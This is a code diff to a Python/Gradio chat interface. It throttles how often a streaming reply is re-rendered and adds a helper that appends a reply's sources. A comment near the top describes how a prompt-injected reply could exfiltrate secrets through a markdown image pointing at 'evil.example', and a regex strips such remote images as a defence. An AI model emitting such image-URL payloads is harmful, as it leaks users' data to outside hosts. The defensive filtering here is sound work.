@@ -30,6 +30,10 @@ SAVE_EVERY_SECONDS = 0.5  # how often a streaming reply is written to the databa
 # Tokens arriving faster than this are sent to the page together: the eye cannot tell, and each update
 # costs the server a render, a diff and a send that would otherwise slow generation itself.
 UPDATE_EVERY_SECONDS = 1 / 20
+# The page's own updates may take this share of the time a reply streams (see ChatPanel._reply), and come at
+# least this often however long the conversation.
+UPDATE_BUDGET = 0.03
+MAX_UPDATE_SECONDS = 0.25
 # A reply may load images from anywhere, and a prompt-injected reply can use that to send data out
 # (![](https://evil.example/?q=<secret>)): remote images show as links instead (the page's CSP blocks them too).
 REMOTE_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?(https?:)?//[^)]*\)", re.IGNORECASE)
@@ -145,6 +149,13 @@ class ChatPanel:
                 if m.role == "assistant" and sources.get(m.id):
                     item["content"] += without_remote_images(sources_html(sources[m.id]))
         return shown
+
+    def sources_under(self, reply_id: int, conversation_id: str) -> str:
+        """What ``chatbot`` puts under this reply: its sources, or nothing."""
+        if self.documents is None:
+            return ""
+        sources = self.documents.sources(conversation_id, [reply_id]).get(reply_id)
+        return without_remote_images(sources_html(sources)) if sources else ""
 
     # ---------------------------------------------------------------- conversations
 
@@ -271,11 +282,38 @@ class ChatPanel:
     ):  # fmt: skip
         textbox = "" if clear_textbox else gr.skip()
         history = [m for m in self.store.messages(conversation_id) if m.id != replace]
-        yield self.chatbot(history, conversation_id), conversation_id, textbox, "", self.history_update(conversation_id, principal)
+        # The conversation so far is rendered once; each update adds the growing reply to it (its sources too,
+        # read once: they are stored before the reply starts).
+        shown = self.chatbot(history, conversation_id)
+        yield shown, conversation_id, textbox, "", self.history_update(conversation_id, principal)
         ensure_loaded(self.engine, progress)
+        sources: dict[int, str] = {}
+
+        def update(reply: StoredMessage) -> tuple:
+            if reply.id not in sources:
+                sources[reply.id] = self.sources_under(reply.id, conversation_id)
+            item = to_chatbot([reply], self.remote_images)[0]
+            item["content"] += sources[reply.id]
+            # The stats line under the chatbot is "" while the reply streams (set above): "" again costs Gradio
+            # nothing, where a skip makes it build a new component for every update.
+            return [*shown, item], gr.skip(), gr.skip(), stats_line(reply.stats) if reply.stats else "", gr.skip()
+
+        interval, last_shown, held = UPDATE_EVERY_SECONDS, 0.0, None
         for reply in self._generate(conversation_id, history, sampling, params, replace):
-            stats = reply.stats
-            yield self.chatbot([*history, reply], conversation_id), gr.skip(), gr.skip(), stats_line(stats) if stats else gr.skip(), gr.skip()
+            now = time.monotonic()
+            if not reply.stats and now - last_shown < interval:
+                held = reply
+                continue
+            held = None
+            yield update(reply)
+            # Gradio renders, diffs and sends an update before it asks for the next one: that time is what an
+            # update costs, and it grows with the conversation (each update carries all of it). Updates come no
+            # more often than keeps that cost within UPDATE_BUDGET of the time, so a long conversation streams
+            # as fast as a short one.
+            last_shown = time.monotonic()
+            interval = min(MAX_UPDATE_SECONDS, max(UPDATE_EVERY_SECONDS, (last_shown - now) / UPDATE_BUDGET))
+        if held is not None:  # an engine that ends without stats: its last words still show
+            yield update(held)
 
     def _generate(
         self, conversation_id: str, history: list[StoredMessage], sampling: Sampling, params: ChatParams, replace: int | None = None
